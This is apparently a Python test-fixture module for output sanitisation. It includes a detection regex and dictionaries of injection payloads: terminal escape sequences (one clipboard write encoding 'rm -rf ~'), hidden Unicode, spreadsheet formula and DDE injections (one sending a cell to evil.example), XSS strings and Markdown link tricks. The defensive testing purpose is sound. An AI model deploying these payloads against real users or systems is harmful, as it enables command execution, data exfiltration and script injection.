"""Text that wants to be more than text: for terminals, spreadsheets, browsers and Markdown."""

from __future__ import annotations

import re

TERMINAL = {
    "OSC 52, the clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "OSC 8, a link": "\x1b]8;;http://evil.example/\x1b\\here\x1b]8;;\x1b\\",
    "OSC 0, the title": "\x1b]0;root@prod\x07",
    "OSC without an end": "\x1b]52;c;cm0gLXJmIH4=",
    "CSI, clear": "\x1b[2J\x1b[1;1H",
    "CSI, concealed": "\x1b[8;30;40m",
    "CSI, answer back": "\x1b[6n\x1b[c",
    "DCS": "\x1bP+q544e\x1b\\",
    "APC": "\x1b_payload\x1b\\",
    "reset": "\x1bc",
    "C1 CSI": "\x9b2J",
    "C1 OSC": "\x9d52;c;cm0gLXJmIH4=\x9c",
    "backspaces": "\x08\x08\x08\x08",
    "overwriting": "\rmeshclaw: all is well",
    "bidi override": "\u202egpj.exe",
    "bidi isolates": "\u2066\u2067\u2069",
    "zero width": "\u200b\u200c\u200d\u2060\ufeff",
    "tags": "".join(chr(0xE0000 + ord(char)) for char in "obey me"),
    "variation selectors": "".join(chr(0xE0100 + ord(char)) for char in "obey me") + "\ufe0f",
    "invisible letters": "\u3164\uffa0\u115f\u17b4",
    "shorthand controls": "\U0001bca0\U0001d173\ufff0",
    "stacked marks": "a" + "\u0335\u0336\u0334" * 40,
}
ALL_TERMINAL = "".join(TERMINAL.values())

_OURS = re.compile(r"\x1b\[[0-9;]{0,12}m|\x1b\[\?25[lh]|\x1b\[[0-9]*[AKG]|\x1b\[2?K|\r(?=\n|\x1b|$)|\r\n")
"""What rich sends to a terminal: colours, the cursor, erased lines."""
_FORBIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f"
    "\u202a-\u202e\u2060-\u206f\u3164\ufe00-\ufe0f\ufeff\uffa0\ufff0-\ufffb\U0001bca0-\U0001bca3"
    "\U0001d173-\U0001d17a\U000e0000-\U000e0fff]|[\u0334-\u0336]{5}"
)


def obeyed(shown: str) -> list[str]:
    """What of `shown` a terminal would obey, or a reader not see, beyond what we send ourselves."""
    assert "\x1b[8;30;40m" not in shown
    return _FORBIDDEN.findall(_OURS.sub("", shown))


FORMULAS = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line break": "x\n=1+1",
    "space": " =1+1",
    "full width": "\uff1d1+1",
    "in a semicolon's cell": "x;=1+1",
    "in a tab's cell": "x\t=1+1",
    "behind a quote": 'x",=1+1',
    "DDE": "=cmd|' /C calc'!A0",
}
HTML = {
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "closing": "</td></table></style><svg/onload=alert(1)>",
    "attribute": '" onmouseover="alert(1)',
    "single quote": "' autofocus onfocus='alert(1)",
    "style": "</style><style>*{background:url(http://evil.example)}",
    "comment": "--><!-- x",
    "refresh": "<meta http-equiv=refresh content=0;url=http://evil.example>",
    "base": "<base href=http://evil.example/>",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'>",
    "form": "<form action=http://evil.example><button>go",
    "not closed": "<a href=http://evil.example",
}
MARKDOWN = {
    "link": "[x](http://evil.example)",
    "picture": "![x](http://evil.example/x.png)",
    "address": "<http://evil.example>",
    "pipe": "a | b | c |",
    "escaped pipe": "a \\| b \\",
    "code": "`x` ``y` | <b>z</b>",
    "emphasis": "**x** _y_ ~~z~~",
    "heading": "x\n\n# y",
    "row": "x |\n| --- |\n| y",
    "reference": "[x]\n\n[x]: http://evil.example",
    "image in HTML": "<img src=http://evil.example/x.png>",
    "entity": "&lt;b&gt; &#124; x",
    "bare address": "http://evil.example www.evil.example | @everyone #1",
}
